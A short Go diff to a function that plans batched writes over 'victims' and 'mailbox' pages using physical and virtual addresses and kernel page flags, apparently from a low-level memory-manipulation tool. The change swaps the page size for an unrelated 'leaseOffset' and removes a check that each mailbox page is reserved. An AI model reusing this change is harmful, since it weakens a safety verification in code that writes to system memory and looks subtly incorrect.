@@ -190,7 +190,7 @@ func planBatch(m model, f detect.Finding) (p Plan, more bool, err error) {
 
 	itSize := (sig.itSize + 15) &^ 15
 	slot := (itSize + sig.sqSize + slotAlign - 1) &^ (slotAlign - 1)
-	perPage := int(hostmem.PageSize / slot)
+	perPage := int(leaseOffset / slot)
 	boxes, err := findMailboxes(m, (len(victims)+perPage-1)/perPage)
 	if err != nil {
 		return fail(err)
@@ -214,7 +214,7 @@ func planBatch(m model, f detect.Finding) (p Plan, more bool, err error) {
 		}},
 	}
 	for _, b := range boxes {
-		p.Steps = append(p.Steps, Step{Op: OpExpect, Why: "the mailbox page is reserved", Object: "struct page.flags", Addr: b.flagsPA, Virt: b.flagsVA, Expect: le(b.flags, 8)})
+		p.Steps = append(p.Steps, b.owned)
 	}
 	at := func(i int) (va uint64, off uint64) {
 		off = uint64(i%perPage) * slot
